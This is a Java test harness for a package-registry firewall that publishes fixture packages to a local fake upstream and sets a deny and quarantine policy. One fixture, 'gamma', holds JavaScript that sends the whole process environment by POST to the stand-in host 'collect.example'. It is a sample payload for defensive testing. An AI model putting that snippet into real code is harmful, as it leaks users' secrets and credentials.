package dev.portcullis.server;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.portcullis.engine.Environment;
import dev.portcullis.testkit.FakeRegistry;
import java.io.ByteArrayInputStream;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.util.Map;
import java.util.zip.GZIPInputStream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/**
 * A firewall in front of a recorded upstream (FakeRegistry on 127.0.0.1): alpha 1.0.0, 1.2.3, 1.3.0 (denied by
 * {@link #POLICY}) and 1.2.4 (an hour old: quarantined), beta depending on alpha ^1.2.0, gamma whose code posts the
 * environment, and a scoped package.
 */
abstract class FirewallHarness {
    static final ObjectMapper JSON = new ObjectMapper();
    static final String A = "portcullis-fixture-alpha";
    static final String B = "portcullis-fixture-beta";
    static final String EVIL = "portcullis-fixture-gamma";
    static final String SCOPED = "@fixture/portcullis-scoped";

    @TempDir
    Path tmp;
    Upstream upstream;
    FakeRegistry registry;
    Firewall firewall;
    final HttpClient http = HttpClient.newHttpClient();
    final Instant old = Instant.now().minus(Duration.ofDays(30));

    @BeforeEach
    void publish() {
        upstream = new Upstream(tmp.resolve("upstream"));
        upstream.publish(A, "1.0.0", old, Upstream.pkg(A, "1.0.0", "module.exports = 1;\n"), Map.of())
                .publish(A, "1.2.3", old.plusSeconds(60), Upstream.pkg(A, "1.2.3", "module.exports = 2;\n"), Map.of())
                .publish(A, "1.3.0", old.plusSeconds(120), Upstream.pkg(A, "1.3.0", "module.exports = 3;\n"), Map.of())
                .publish(A, "1.2.4", Instant.now().minus(Duration.ofHours(1)),
                        Upstream.pkg(A, "1.2.4", "module.exports = 4;\n"), Map.of())
                .tag(A, "latest", "1.3.0").tag(A, "next", "1.2.4");
        upstream.publish(B, "2.0.0", old, null, Map.of(A, "^1.2.0"));
        upstream.publish(EVIL, "1.0.0", old, Upstream.pkg(EVIL, "1.0.0", """
                const http = require('http');
                const body = JSON.stringify(process.env);
                const req = http.request({ host: 'collect.example', method: 'POST', path: '/e' });
                req.write(body);
                req.end();
                """), Map.of());
        upstream.publish(SCOPED, "1.0.0", old, Upstream.pkg(SCOPED, "1.0.0", "module.exports = 's';\n"), Map.of());
        registry = FakeRegistry.start(upstream.dir());
    }

    @AfterEach
    void stop() {
        if (firewall != null) {
            firewall.close();
        }
        try {
            registry.close();
        } catch (IllegalStateException e) {
            // a test that took the upstream down closed it already
        }
    }

    Firewall start(String configYaml) throws Exception {
        return start("", configYaml);
    }

    /** A firewall with these lines added to its {@code storage:} section and the rest of the configuration. */
    Firewall start(String storageLines, String configYaml) throws Exception {
        if (firewall != null) {
            firewall.close();
        }
        Path config = tmp.resolve("portcullis-server.yml");
        Files.writeString(config, "listen: 127.0.0.1:0\nupstream: " + registry.url() + "\nstorage:\n  data: data\n"
                + storageLines + configYaml);
        Environment environment = new Environment(Map.of(), tmp.resolve("home"), Clock.systemUTC(), null);
        firewall = Firewall.start(ServerSetup.config(environment, tmp, config, null, null, null, null), environment);
        return firewall;
    }

    static final String POLICY = """
            policy:
              minReleaseAge: 3d
              deny:
                - package: portcullis-fixture-alpha@1.3.0
                  reason: broke production (INC-42)
            """;

    HttpResponse<byte[]> get(String path, String... headers) throws Exception {
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create(firewall.url() + path.substring(1)));
        for (int i = 0; i < headers.length; i += 2) {
            request.header(headers[i], headers[i + 1]);
        }
        return http.send(request.build(), HttpResponse.BodyHandlers.ofByteArray());
    }

    static JsonNode json(HttpResponse<byte[]> response) throws Exception {
        return JSON.readTree(response.body());
    }

}
